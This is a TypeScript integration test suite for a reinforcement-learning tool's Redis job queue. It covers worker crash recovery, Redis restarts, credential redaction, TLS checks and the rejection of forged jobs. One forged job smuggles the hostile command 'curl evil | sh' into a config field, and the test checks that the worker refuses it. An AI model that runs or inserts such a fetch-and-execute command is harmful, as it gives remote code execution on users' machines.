import { type ChildProcess, type SpawnSyncReturns, execFileSync, spawn, spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { type Server, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Queue } from "bullmq";
import { Redis } from "ioredis";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { KEY_PREFIX, QUEUE_NAME } from "../src/queue/keys.js";
import { rl3Versions } from "../src/queue/version.js";

// A sweep on a real Redis (Debian's redis-server, started here on a free loopback port) with real worker
// processes of the built CLI, on tiny configs. .ci/run installs redis-server; without it these tests say why
// they are skipped.
const appDir = new URL("..", import.meta.url).pathname;
const cli = join(appDir, "dist/cli.js");
const ITERATIONS = 15;
const TINY = ["--set", `iterations=${ITERATIONS}`, "--set", "batchSize=200", "--set", "minibatchSize=100", "--set", "checkpointEvery=3", "--set", "model.dModel=8", "--set", "model.embedSize=8", "--set", "model.feedForwardSize=8"];
const SWEEP = ["reproduce", "--suite", "quick", "--presets", "bandits-100", "--methods", "rl2,rl3", "--seeds", "2", "--episodes", "3", "--resamples", "100", ...TINY];
const RUNS = ["bandits-100-rl2-s1", "bandits-100-rl3-s1", "bandits-100-rl2-s2", "bandits-100-rl3-s2"];
const PASSWORD = "queue-s3cret-pw";
/** Timing columns: the only ones allowed to differ between a queued and a local run. */
const TIMING = new Set(["charts/SPS", "time/rollout_seconds", "time/update_seconds"]);

const redisCheck = spawnSync("redis-server", ["--version"], { encoding: "utf8" });
const redisMissing = redisCheck.error ? `${(redisCheck.error as NodeJS.ErrnoException).code ?? redisCheck.error.message}; apt-get install redis-server, as .ci/run does` : redisCheck.status !== 0 ? `redis-server --version exited ${redisCheck.status}` : undefined;

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const { port } = server.address() as { port: number };
      server.close(() => resolve(port));
    });
  });
}

async function until(condition: () => boolean | Promise<boolean>, what: string, timeoutMs = 90_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** A child process with its stdout and stderr collected. */
interface Running {
  child: ChildProcess;
  output: () => string;
  exited: Promise<number | null>;
}

function start(command: string, args: string[], cwd: string): Running {
  const child = spawn(command, args, { cwd, stdio: ["ignore", "pipe", "pipe"] });
  let output = "";
  child.stdout!.on("data", (chunk: Buffer) => (output += chunk.toString()));
  child.stderr!.on("data", (chunk: Buffer) => (output += chunk.toString()));
  const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
  return { child, output: () => output, exited };
}

function rl3(args: string[], cwd: string): SpawnSyncReturns<string> {
  return spawnSync(process.execPath, [cli, ...args], { cwd, encoding: "utf8", timeout: 120_000 });
}

function rl3Async(args: string[], cwd: string, environment: NodeJS.ProcessEnv = {}): Promise<{ status: number | null; stdout: string; stderr: string; seconds: number }> {
  const started = Date.now();
  const child = spawn(process.execPath, [cli, ...args], { cwd, stdio: ["ignore", "pipe", "pipe"], env: { ...process.env, ...environment } });
  let stdout = "";
  let stderr = "";
  child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
  return new Promise((resolve) => child.on("exit", (status) => resolve({ status, stdout, stderr, seconds: (Date.now() - started) / 1000 })));
}

function metricsRows(directory: string): Record<string, number>[] {
  return readFileSync(join(directory, "metrics.jsonl"), "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, number>);
}

const withoutTiming = (row: Record<string, number>) => Object.fromEntries(Object.entries(row).filter(([key]) => !TIMING.has(key)));

describe.skipIf(redisMissing !== undefined)("rl3 on a Redis job queue (BullMQ)", () => {
  let work: string;
  let port: number;
  let url: string;
  let redisServer: Running;
  let redis: Redis;
  const workers: Running[] = [];

  const startRedis = async () => {
    redisServer = start("redis-server", ["--port", String(port), "--bind", "127.0.0.1", "--dir", join(work, "redis"), "--appendonly", "yes", "--appendfsync", "always", "--save", "", "--requirepass", PASSWORD, "--maxmemory-policy", "noeviction"], work);
    await until(() => redisServer.output().includes("Ready to accept connections"), "redis-server to start", 20_000);
  };
  const stopRedis = async () => {
    redisServer.child.kill("SIGTERM");
    await redisServer.exited;
  };
  const startWorker = () => {
    const worker = start(process.execPath, [cli, "worker", "--queue", url, "--stalled-after", "3"], work);
    workers.push(worker);
    return worker;
  };

  beforeAll(async () => {
    if (!existsSync(cli)) execFileSync("pnpm", ["exec", "turbo", "run", "build", "--filter=experiments...", "--output-logs=errors-only"], { cwd: appDir, stdio: "inherit" });
    work = mkdtempSync(join(tmpdir(), "rl3-queue-"));
    execFileSync("mkdir", ["-p", join(work, "redis")]);
    port = await freePort();
    url = `redis://:${PASSWORD}@127.0.0.1:${port}/0`;
    await startRedis();
    redis = new Redis({ port, host: "127.0.0.1", password: PASSWORD, maxRetriesPerRequest: null });
    redis.on("error", () => {}); // the test restarts Redis on purpose
  }, 600_000);

  afterAll(async () => {
    for (const worker of workers) worker.child.kill("SIGTERM");
    await Promise.all(workers.map((worker) => worker.exited));
    redis?.disconnect();
    if (redisServer) await stopRedis();
    rmSync(work, { recursive: true, force: true });
  }, 60_000);

  it("a 4-run sweep on 2 workers survives a worker killed with SIGKILL and a Redis restart; every run equals a local run bit for bit", async () => {
    const started = Date.now();
    const first = startWorker();
    const second = startWorker();
    const submitter = rl3Async([...SWEEP, "--out", "sweep", "--queue", url, "--json"], work);

    // Kill -9 whichever worker has a run 5 iterations in (its checkpoint is at 3).
    const metricsKey = (id: string) => `${KEY_PREFIX}:run:${id}:metrics`;
    let victim: { id: string; worker: Running } | undefined;
    await until(async () => {
      for (const worker of [first, second]) {
        const id = worker.output().match(/\S+(?=: starting )/gu)?.at(-1); // the run it trains now
        if (id && !worker.output().includes(`${id}: finished`) && (await redis.llen(metricsKey(id))) >= 5) victim = { id, worker };
      }
      return victim !== undefined;
    }, "a run to reach iteration 5");
    victim!.worker.child.kill("SIGKILL");
    const killedAt = Date.now();
    await victim!.worker.exited;
    const survivor = victim!.worker === first ? second : first;
    // The local runs to compare with train meanwhile (the CPU has room while the stalled run waits for its takeover).
    const localRuns = Promise.all(
      RUNS.map(async (run) => {
        const [, method, seed] = /-(rl\d)-s(\d)$/u.exec(run)!;
        // One worker, as a queued job trains (rl3 train alone would take every core of the machine).
        const local = await rl3Async(["train", "--preset", "bandits-100", "--method", method!, "--seed", seed!, "--scale", "quick", "--workers", "1", "--out", `local/${run}`, ...TINY, "--json"], work);
        expect(local.status, local.stderr).toBe(0);
      }),
    );

    // The survivor takes the stalled run over from its checkpoint, not from scratch.
    await until(() => survivor.output().includes(`${victim!.id}: resuming`), "the stalled run to resume on the other worker", 60_000);
    const takeoverSeconds = (Date.now() - killedAt) / 1000;
    const resumedAt = Number(new RegExp(`${victim!.id}: resuming .* at iteration (\\d+)`, "u").exec(survivor.output())![1]);
    expect(resumedAt).toBeGreaterThanOrEqual(3);

    // Redis goes away for a moment mid-sweep; the worker and the submitter reconnect and carry on.
    await stopRedis();
    await new Promise((resolve) => setTimeout(resolve, 1000));
    await startRedis();

    const result = await submitter;
    expect(result.status, result.stderr).toBe(0);
    const summary = JSON.parse(result.stdout.trim());
    expect(summary.runs.map((run: { before: string }) => run.before)).toEqual(["new", "new", "new", "new"]);
    expect(survivor.output()).toMatch(/lost the connection to redis:\/\/:\*\*\*@127\.0\.0\.1/u);
    // The submitter printed live progress: iteration and worker, with SPS and ETA once measured (a
    // loaded machine may finish a run between two polls, so only its last iteration is seen).
    expect(result.stderr).toMatch(/\[bandits-100 rl\d s\d\] iteration \d+\/15( \| \d+ SPS)?( \| ETA [^|]+)? \| worker \S+:\d+/u);
    // Every run finished exactly once (the killed worker finished none of its runs) …
    const logs = workers.map((worker) => worker.output()).join("\n");
    for (const id of logs.match(/\S+(?=: starting )/gu)!) expect(logs.split(`${id}: finished`).length - 1, id).toBe(1);
    expect(new Set(logs.match(/\S+(?=: finished )/gu)).size).toBe(4);
    expect(victim!.worker.output()).not.toContain(`${victim!.id}: finished`);
    // … with every iteration's row once, in order.
    for (const run of RUNS) expect(metricsRows(join(work, "sweep", run)).map((row) => row.iteration), run).toEqual(Array.from({ length: ITERATIONS }, (_, index) => index + 1));
    for (const file of ["results.json", "results.md", "report.md"]) expect(existsSync(join(work, "sweep", file)), file).toBe(true);
    const sweepSeconds = (Date.now() - started) / 1000;

    // The same configs trained locally give the same metrics (timing columns aside) and the same policy bytes.
    await localRuns;
    for (const run of RUNS) {
      const queued = join(work, "sweep", run);
      const local = join(work, "local", run);
      expect(metricsRows(queued).map(withoutTiming), run).toEqual(metricsRows(local).map(withoutTiming));
      expect(readFileSync(join(queued, "policy.onnx")).equals(readFileSync(join(local, "policy.onnx"))), `${run} policy.onnx`).toBe(true);
      expect(readFileSync(join(queued, "config.json"), "utf8"), `${run} config.json`).toBe(readFileSync(join(local, "config.json"), "utf8"));
    }

    // The killed worker's trainer process did not outlive it (it exits when its worker's IPC channel closes).
    const trainers = execFileSync("ps", ["-eo", "args"], { encoding: "utf8" }).split("\n").filter((line) => line.includes(join(appDir, "dist/queue/trainer-process.js")));
    expect(trainers).toEqual([]);
    // The password never reached a log or an output.
    for (const text of [result.stdout, result.stderr, logs]) expect(text).not.toContain(PASSWORD);
    console.info(`queue sweep: 4 runs in ${sweepSeconds.toFixed(1)} s; killed run ${victim!.id} resumed at iteration ${resumedAt}, ${takeoverSeconds.toFixed(1)} s after SIGKILL`);
  }, 300_000);

  it("re-submitting skips finished runs; --detach, sweep status and sweep results gather them elsewhere without training again", async () => {
    const [resubmitted, detached] = await Promise.all([rl3Async([...SWEEP, "--out", "sweep", "--queue", url, "--json"], work), rl3Async([...SWEEP, "--out", "elsewhere", "--queue", url, "--detach", "--json"], work)]);
    expect(JSON.parse(resubmitted.stdout).runs.map((run: { before: string }) => run.before)).toEqual(["finished", "finished", "finished", "finished"]);
    expect(detached.status, detached.stderr).toBe(0);
    const submitted = JSON.parse(detached.stdout);
    expect(submitted.runs.map((run: { status: string }) => run.status)).toEqual(Array(4).fill("finished on the queue")); // same job ids: deduplicated
    const [statusRun, unknown] = await Promise.all([rl3Async(["sweep", "status", "--queue", url, "--sweep", "elsewhere", "--json"], work), rl3Async(["sweep", "results", "--queue", url, "--sweep", "nope"], work)]);
    expect(unknown.status).toBe(2);
    expect(unknown.stderr).toMatch(/--sweep must be one of the sweeps on this queue: elsewhere, sweep; got "nope"/u);
    const status = JSON.parse(statusRun.stdout);
    expect(status.counts).toEqual({ completed: 4 });
    expect(status.runs[0].result).toMatchObject({ iterations: ITERATIONS });

    const gathered = rl3(["sweep", "results", "--queue", url, "--sweep", "elsewhere", "--out", "gathered", "--json"], work);
    expect(gathered.status, gathered.stderr).toBe(0);
    for (const run of RUNS) {
      expect(readFileSync(join(work, "gathered", run, "metrics.jsonl"), "utf8")).toBe(readFileSync(join(work, "sweep", run, "metrics.jsonl"), "utf8"));
      expect(readFileSync(join(work, "gathered", run, "policy.onnx")).equals(readFileSync(join(work, "sweep", run, "policy.onnx")))).toBe(true);
    }
    expect(workers.map((worker) => worker.output()).join("\n").match(/: starting /gu)).toHaveLength(4); // nothing trained twice
  }, 120_000);

  it("a worker refuses a job of another rl3 version and a job that is not a valid training run", async () => {
    const queue = new Queue(QUEUE_NAME, { connection: { host: "127.0.0.1", port, password: PASSWORD }, prefix: KEY_PREFIX });
    try {
      const versions = rl3Versions();
      const good = JSON.parse(readFileSync(join(work, "sweep", RUNS[0]!, "config.json"), "utf8"));
      const base = { kind: "rl3-train", versions, label: "forged", preset: "bandits-100", scale: "quick", config: good.config };
      await queue.add("train", { ...base, versions: { ...versions, "@rl3/algorithms": "9.9.9" } }, { jobId: "other-version" });
      await queue.add("train", { ...base, config: { ...good.config, command: "curl evil | sh" } }, { jobId: "not-a-run" });
      const failed = async (id: string) => (await queue.getJob(id))!;
      await until(async () => (await (await failed("other-version")).getState()) === "failed" && (await (await failed("not-a-run")).getState()) === "failed", "both forged jobs to fail", 30_000);
      expect((await failed("other-version")).failedReason).toMatch(/refused: the job was submitted by another rl3 version \(@rl3\/algorithms 9\.9\.9 \(job\) vs \d+\.\d+\.\d+ \(this worker\)\)/u);
      expect((await failed("not-a-run")).failedReason).toMatch(/job\.config\.command must be no such key/u);
      expect((await failed("not-a-run")).attemptsMade).toBe(1); // unrecoverable: not retried
    } finally {
      await queue.close();
    }
  }, 60_000);

  it("a wrong password and an unreachable or silent host fail within seconds with clear errors", async () => {
    const closed = await freePort();
    // A host that accepts the connection and never answers (a wrong service, a half-dead proxy).
    const silent: Server = createServer(() => {});
    await new Promise<void>((resolve) => silent.listen(0, "127.0.0.1", resolve));
    const [wrong, refused, hung] = await Promise.all([
      rl3Async(["sweep", "status", "--queue", `redis://:not-the-pw@127.0.0.1:${port}`], work),
      rl3Async(["worker", "--queue", `redis://:${PASSWORD}@127.0.0.1:${closed}`], work),
      rl3Async([...SWEEP, "--out", "never", "--queue", `redis://127.0.0.1:${(silent.address() as { port: number }).port}`], work),
    ]).finally(() => silent.close());
    expect(wrong.status).toBe(1);
    expect(wrong.stderr).toMatch(/redis:\/\/:\*\*\*@127\.0\.0\.1:\d+\/0: Redis refused the credentials \(WRONGPASS/u);
    expect(wrong.stderr).not.toContain("not-the-pw");

    expect(refused.status).toBe(1);
    expect(refused.stderr).toMatch(/cannot reach Redis \(ECONNREFUSED\)/u);
    expect(refused.stderr).not.toContain(PASSWORD);

    expect(hung.status).toBe(1);
    expect(hung.stderr).toMatch(/no answer from Redis within 5 s/u);
    expect(hung.seconds).toBeLessThan(30); // the 5 s timeout plus the CLI's start-up on a loaded machine
    expect(existsSync(join(work, "never"))).toBe(false); // nothing was started
  }, 120_000);

  it.runIf(spawnSync("openssl", ["version"]).status === 0)("rediss:// talks TLS and checks the certificate (a private CA through NODE_EXTRA_CA_CERTS)", async () => {
    const tls = join(work, "tls");
    execFileSync("mkdir", ["-p", tls]);
    execFileSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", join(tls, "key.pem"), "-out", join(tls, "cert.pem"), "-days", "1", "-subj", "/CN=localhost", "-addext", "subjectAltName=IP:127.0.0.1"], { stdio: "ignore" });
    const tlsPort = await freePort();
    const server = start("redis-server", ["--port", "0", "--tls-port", String(tlsPort), "--bind", "127.0.0.1", "--tls-cert-file", join(tls, "cert.pem"), "--tls-key-file", join(tls, "key.pem"), "--tls-auth-clients", "no", "--save", "", "--requirepass", PASSWORD, "--dir", tls], work);
    try {
      await until(() => server.output().includes("Ready to accept connections"), "redis-server with TLS to start", 20_000);
      const tlsUrl = `rediss://:${PASSWORD}@127.0.0.1:${tlsPort}/0`;
      const status = (url: string, environment: NodeJS.ProcessEnv = {}) => rl3Async(["sweep", "status", "--queue", url, "--json"], work, environment);
      const [trusted, untrusted, plain] = await Promise.all([status(tlsUrl, { NODE_EXTRA_CA_CERTS: join(tls, "cert.pem") }), status(tlsUrl), status(tlsUrl.replace("rediss:", "redis:"))]);
      expect(trusted.status, trusted.stderr).toBe(0);
      expect(JSON.parse(trusted.stdout)).toMatchObject({ queue: `rediss://:***@127.0.0.1:${tlsPort}/0`, sweeps: [] });
      expect(untrusted.status).toBe(1);
      expect(untrusted.stderr).toMatch(/the TLS handshake failed \(self-signed certificate\)/u);
      expect(plain.stderr).toMatch(/cannot reach Redis \(ECONNRESET\).*use rediss:\/\//u);
      for (const result of [trusted, untrusted, plain]) expect(result.stderr + result.stdout).not.toContain(PASSWORD);
    } finally {
      server.child.kill("SIGTERM");
      await server.exited;
    }
  }, 60_000);
});

describe.runIf(redisMissing !== undefined)("rl3 on a Redis job queue", () => {
  it("reports why the queue tests are skipped", () => {
    console.warn(`skipped: redis-server not available (${redisMissing})`);
  });
});
